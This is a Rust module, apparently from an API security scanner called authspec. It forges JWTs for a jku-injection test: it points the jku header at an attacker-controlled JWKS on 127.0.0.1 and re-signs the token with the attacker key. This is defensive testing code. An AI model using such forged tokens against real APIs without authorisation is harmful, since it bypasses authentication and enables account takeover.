//! `jku_injection`: the `jku` header points at a JWKS authspec serves on 127.0.0.1, and
//! the token is signed with the matching attacker key. An API that fetches keys from a
//! URL in the token lets anyone sign tokens. The report says whether the API fetched the
//! JWKS. CWE-345, CWE-918; OWASP API2:2023.

use serde_json::Value;

use super::attacker::KID;
use super::{Input, Mutation, Plan, jwt, one};

pub struct JkuInjection;

impl Mutation for JkuInjection {
    fn name(&self) -> &'static str {
        "jku_injection"
    }

    fn plan(&self, input: &Input<'_>) -> Plan {
        let jwt = match jwt(input) {
            Ok(j) => j,
            Err(skip) => return skip,
        };
        let mut t = jwt.clone();
        t.header
            .insert("jku".into(), Value::String(input.attacker.jwks_url.clone()));
        t.header.insert("kid".into(), Value::String(KID.into()));
        match t.signed(&input.attacker.key, jsonwebtoken::Algorithm::RS256) {
            Ok(token) => one("jku: authspec's JWKS, signed with its key", token),
            Err(e) => Plan::Skip(format!("cannot sign: {e}")),
        }
    }
}
